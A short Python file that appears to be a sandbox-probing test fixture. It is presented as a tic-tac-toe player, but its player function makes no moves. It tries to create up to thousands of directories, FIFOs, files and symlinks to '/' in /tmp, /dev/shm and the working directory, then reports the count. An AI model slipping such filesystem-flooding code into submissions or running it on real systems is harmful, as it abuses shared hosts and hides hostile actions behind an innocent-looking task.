import os

def cases_libres(g):
    return [(i, j) for i in range(3) for j in range(3) if g[i][j] == 0]

def joueur(g):
    faits = 0
    for numero in range(1_000):
        for dossier in "/tmp", "/dev/shm", ".":
            nom = f"{dossier}/@MARK@-{numero}"
            for fait in os.mkdir, os.mkfifo, lambda n: os.symlink("/", n), lambda n: os.close(os.open(n, 65)):
                try:
                    fait(nom)
                    faits += 1
                except OSError:
                    pass
        if numero > 5 and not faits:
            break
    return f"made: {faits}"
